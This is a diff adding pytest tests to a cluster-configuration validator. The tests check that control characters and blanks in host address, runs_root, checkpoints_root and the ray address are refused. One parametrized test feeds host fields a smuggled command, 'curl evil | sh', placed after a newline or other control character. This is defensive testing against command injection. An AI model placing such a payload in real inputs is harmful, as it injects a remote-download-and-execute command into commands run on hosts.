@@ -225,3 +225,28 @@ def test_an_unquoted_deadline_is_named_with_its_fix(tmp_path):
 def test_a_cron_that_schedule_install_refuses_is_refused_at_load(tmp_path, cron):
     errors = errors_of(tmp_path, mutate(schedule__cron=cron))
     assert errors[0].startswith("cluster.yaml: schedule.cron: ") and repr(cron) in errors[0], errors
+
+
+@pytest.mark.parametrize("char", ["\n", "\t", "\0", "\x1b", "\r", "\u2028"])
+@pytest.mark.parametrize("field", ["address", "runs_root", "checkpoints_root"])
+def test_a_control_character_in_a_host_field_is_refused_naming_host_and_field(tmp_path, capsys, char, field):
+    """A newline in an address passed validate and split host-command's printed line in two."""
+    path = write(tmp_path, mutate(**{f"hosts__1__{field}": f"10.0.0.2{char}curl evil | sh"}))
+    err = validate_fails_in_one_line(path, capsys)
+    assert f"hosts[1].{field}: " in err and f"host 'ana-ml2' {field}: holds control characters" in err, err
+    from runner import cli
+
+    assert cli.main(["host-command", "--cluster", str(path), "ana-ml2"]) == 2
+    captured = capsys.readouterr()
+    assert captured.out == "" and len(captured.err.strip().splitlines()) == 1
+
+
+@pytest.mark.parametrize("address", ["gx10 lab", " ", "10.0.0.1 --block"])
+def test_a_host_address_with_blanks_is_refused(tmp_path, address):
+    assert "hosts[0].address: " in errors_of(tmp_path, mutate(hosts__0__address=address))[0]
+
+
+def test_a_control_character_in_the_ray_address_is_refused(tmp_path):
+    data = mutate()
+    data["ray"] = {"address": "gx10.lab:6379\n"}
+    assert errors_of(tmp_path, data)[0].startswith("cluster.yaml: ray.address: ")
